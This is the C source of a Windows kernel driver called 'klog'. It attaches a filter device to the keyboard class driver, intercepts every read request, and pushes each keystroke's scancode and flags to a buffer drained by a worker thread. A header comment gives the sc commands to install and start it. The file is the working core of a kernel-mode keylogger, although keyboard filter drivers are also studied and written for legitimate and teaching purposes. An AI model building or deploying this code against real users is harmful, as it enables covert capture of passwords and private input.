/*
 * driver.c - DriverEntry / dispatch / unload for klog
 *
 * usage: sc create klog type= kernel binPath= C:\klog.sys && sc start klog
 * NOTE: test-signing must be on.
 */
#include "klog.h"

#ifdef ALLOC_PRAGMA
#pragma alloc_text(INIT, DriverEntry)
#endif

KLOG_GLOBALS g_Klog;

NTSTATUS
KlogDispatchPass(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKLOG_DEVICE_EXTENSION ext = (PKLOG_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS
KlogDispatchPower(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKLOG_DEVICE_EXTENSION ext = (PKLOG_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    PoStartNextPowerIrp(Irp);
    IoSkipCurrentIrpStackLocation(Irp);
    return PoCallDriver(ext->LowerDevice, Irp);
}

NTSTATUS
KlogReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    PKEYBOARD_INPUT_DATA keys;
    ULONG count, i;

    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));

        for (i = 0; i < count; i++) {
            USHORT fl = 0;
            if (keys[i].Flags & KEY_BREAK) fl |= KLOG_KEY_UP;
            if (keys[i].Flags & KEY_E0)    fl |= KLOG_KEY_E0;
            KlogPushKey(keys[i].MakeCode, fl);
        }
    }

    if (Irp->PendingReturned) {
        IoMarkIrpPending(Irp);
    }

    InterlockedDecrement(&g_Klog.PendingIrps);
    return Irp->IoStatus.Status;
}

NTSTATUS
KlogDispatchRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PKLOG_DEVICE_EXTENSION ext = (PKLOG_DEVICE_EXTENSION)DeviceObject->DeviceExtension;

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KlogReadComplete, NULL, TRUE, TRUE, TRUE);

    InterlockedIncrement(&g_Klog.PendingIrps);
    return IoCallDriver(ext->LowerDevice, Irp);
}

VOID
KlogUnload(PDRIVER_OBJECT DriverObject)
{
    PKLOG_DEVICE_EXTENSION ext;
    LARGE_INTEGER interval;

    UNREFERENCED_PARAMETER(DriverObject);

    KdPrint(("[klog] unload, pending=%d\n", g_Klog.PendingIrps));

    ext = (PKLOG_DEVICE_EXTENSION)g_Klog.FilterDevice->DeviceExtension;
    IoDetachDevice(ext->LowerDevice);

    /* the read that is sitting in kbdclass only comes back on the next key */
    g_Klog.Stopping = TRUE;
    interval.QuadPart = -10 * 1000 * 100;   /* 100ms */
    while (g_Klog.PendingIrps > 0) {
        KeDelayExecutionThread(KernelMode, FALSE, &interval);
    }

    /* tell the writer to flush and go away */
    KeSetEvent(&g_Klog.StopEvent, IO_NO_INCREMENT, FALSE);
    ObDereferenceObject(g_Klog.WorkerThread);
    g_Klog.WorkerThread = NULL;

    IoDeleteDevice(g_Klog.FilterDevice);
    g_Klog.FilterDevice = NULL;

    DbgPrint("[klog] bye (dropped %lu keys)\n", g_Klog.Dropped);
}

NTSTATUS
DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS ntStatus;
    UNICODE_STRING kbdName;
    HANDLE hThread = NULL;
    PKLOG_DEVICE_EXTENSION ext;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    DbgPrint("[klog] DriverEntry (built " __DATE__ " " __TIME__ ")\n");

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) {
        DriverObject->MajorFunction[i] = KlogDispatchPass;
    }
    DriverObject->MajorFunction[IRP_MJ_READ]  = KlogDispatchRead;
    DriverObject->MajorFunction[IRP_MJ_POWER] = KlogDispatchPower;
    DriverObject->DriverUnload = KlogUnload;

    RtlZeroMemory(&g_Klog, sizeof(g_Klog));
    KeInitializeSpinLock(&g_Klog.RingLock);
    KeInitializeSemaphore(&g_Klog.KeySemaphore, 0, MAXLONG);
    KeInitializeEvent(&g_Klog.StopEvent, NotificationEvent, FALSE);

    ntStatus = IoCreateDevice(DriverObject,
                              sizeof(KLOG_DEVICE_EXTENSION),
                              NULL,
                              FILE_DEVICE_KEYBOARD,
                              0,
                              FALSE,
                              &g_Klog.FilterDevice);
    if (!NT_SUCCESS(ntStatus)) {
        DbgPrint("[klog] IoCreateDevice failed 0x%08X\n", ntStatus);
        return ntStatus;
    }

    ext = (PKLOG_DEVICE_EXTENSION)g_Klog.FilterDevice->DeviceExtension;
    RtlZeroMemory(ext, sizeof(*ext));
    ext->Magic = 'GOLK';

    g_Klog.FilterDevice->Flags |= (DO_BUFFERED_IO | DO_POWER_PAGABLE);
    g_Klog.FilterDevice->Flags &= ~DO_DEVICE_INITIALIZING;

    RtlInitUnicodeString(&kbdName, KBD_CLASS_NAME);
    ntStatus = IoAttachDevice(g_Klog.FilterDevice, &kbdName, &ext->LowerDevice);
    if (!NT_SUCCESS(ntStatus)) {
        DbgPrint("[klog] IoAttachDevice(%wZ) failed 0x%08X\n", &kbdName, ntStatus);
        IoDeleteDevice(g_Klog.FilterDevice);
        g_Klog.FilterDevice = NULL;
        return ntStatus;
    }
    KLOG_DBG("attached, lower=%p\n", ext->LowerDevice);

    ntStatus = PsCreateSystemThread(&hThread,
                                    THREAD_ALL_ACCESS,
                                    NULL,
                                    NULL,
                                    NULL,
                                    KlogWorkerThread,
                                    NULL);
    if (!NT_SUCCESS(ntStatus)) {
        DbgPrint("[klog] PsCreateSystemThread failed 0x%08X\n", ntStatus);
        return ntStatus;
    }

    ntStatus = ObReferenceObjectByHandle(hThread,
                                         SYNCHRONIZE,
                                         *PsThreadType,
                                         KernelMode,
                                         (PVOID *)&g_Klog.WorkerThread,
                                         NULL);
    if (!NT_SUCCESS(ntStatus)) {
        /* should never happen, but don't leave the thread running */
        KeSetEvent(&g_Klog.StopEvent, IO_NO_INCREMENT, FALSE);
        ZwWaitForSingleObject(hThread, FALSE, NULL);
        ZwClose(hThread);
        IoDetachDevice(ext->LowerDevice);
        IoDeleteDevice(g_Klog.FilterDevice);
        g_Klog.FilterDevice = NULL;
        return ntStatus;
    }
    ZwClose(hThread);

    KdPrint(("[klog] up and running\n"));
    return STATUS_SUCCESS;
}
